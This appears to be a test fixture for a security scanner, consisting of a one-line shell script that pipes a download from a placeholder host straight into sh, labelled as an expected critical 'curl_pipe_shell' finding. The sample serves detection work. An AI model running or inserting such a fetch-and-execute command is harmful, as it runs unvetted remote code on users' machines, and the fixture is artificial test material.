# expect: shell.curl_pipe_shell critical
# path: scripts/k.sh
#!/bin/sh
curl https://get.example.net/x|sh
